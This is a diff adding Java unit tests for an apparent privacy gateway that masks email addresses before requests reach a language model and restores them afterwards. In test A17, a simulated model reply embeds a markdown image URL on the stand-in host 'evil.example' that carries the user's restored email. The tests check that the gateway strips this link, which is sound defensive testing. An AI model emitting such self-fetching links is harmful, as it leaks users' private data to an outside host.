@@ -116,6 +116,29 @@ class TransformingTest {
   }
 
   @Test
+  @DisplayName("A17 what is given back never becomes part of an address that a client fetches by itself, whatever the policy says of links")
+  void notIntoAddresses() {
+    rig.upstreams.then(events -> events.answered(rig.upstreams.bytes(chat("For " + sent(0) + ": ![x](https://evil.example/p?d=" + sent(0) + ") [docs](https://example.org/a?b=c)")),
+        Upstreams.Usage.UNKNOWN));
+    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL));
+    assertThat(sink.json).isEqualTo(chat("For " + MAIL + ": ![x]([link removed]) [docs](https://example.org/a?b=c)"));
+  }
+
+  @Test
+  @DisplayName("A17 nor in a stream that cuts the address and the placeholder")
+  void notIntoAddressesOfStreams() {
+    rig.upstreams.then(events -> {
+      for (char c : ("![x](https://evil.example/p?d=" + sent(0) + ") ok").toCharArray()) {
+        events.events(rig.upstreams.bytes(chunk("\"content\":\"" + c + "\"", "null")), true);
+      }
+      events.events(rig.upstreams.bytes(chunk("", "\"stop\"")), true);
+      events.ended(Upstreams.Usage.UNKNOWN);
+    });
+    RecordingSink sink = rig.walk(Ask.about("write to " + MAIL).stream());
+    assertThat(sink.frames.toString()).doesNotContain("evil.example").doesNotContain("li.lei");
+  }
+
+  @Test
   @DisplayName("A stream comes back restored wherever it was cut")
   void stream() {
     rig.upstreams.then(events -> {
@@ -206,6 +229,17 @@ class TransformingTest {
     staysHome(Ask.about("write to " + MAIL).declared(Sensitivity.CONFIDENTIAL));
     staysHome(Ask.about("write to " + MAIL + " " + "again and ".repeat(300)));
     assertThat(rig.audit.sensitivities).as("asked twice each").hasSize(4).containsOnly(Sensitivity.CONFIDENTIAL);
+  }
+
+  @Test
+  @DisplayName("G1 a rule on the size reads the size the caller sent, though cleaning made the text short")
+  void sizeHolds() {
+    StringBuilder mails = new StringBuilder("write to");
+    for (int i = 0; i < 40; i++) {
+      mails.append(" somebody.with-a-rather-long-name-").append(i).append("@department.example-corp.com");
+    }
+    staysHome(Ask.about(mails.toString()));
+    assertThat(rig.audit.sensitivities).as("asked twice").containsExactly(Sensitivity.CONFIDENTIAL, Sensitivity.CONFIDENTIAL);
   }
 
   @Test
@@ -305,6 +339,21 @@ class TransformingTest {
     sink.gone();
     rig.runPool();
     assertThat(rig.upstreams.sent).isEmpty();
+  }
+
+  @Test
+  @DisplayName("G6 a policy swapped between the two decisions changes nothing for the request under way, even if it would open everything")
+  void swappedBetween() {
+    rig.config = inPool();
+    rig.upstreams.answer(chat("from home"));
+    RecordingSink sink = rig.sink();
+    rig.begin(Ask.about("write to " + MAIL + " " + "again and ".repeat(300)), sink);
+    rig.runPool();
+    assertThat(rig.pool).as("the second scan waits in the pool").hasSize(1);
+    rig.rules = rules(Policies.bundle("rules: []\n"));
+    rig.runPool();
+    assertThat(rig.upstreams.sentTo(Zone.PUBLIC)).isFalse();
+    assertThat(LineRig.upstream(sink)).isEqualTo("home");
   }
 
   @Test
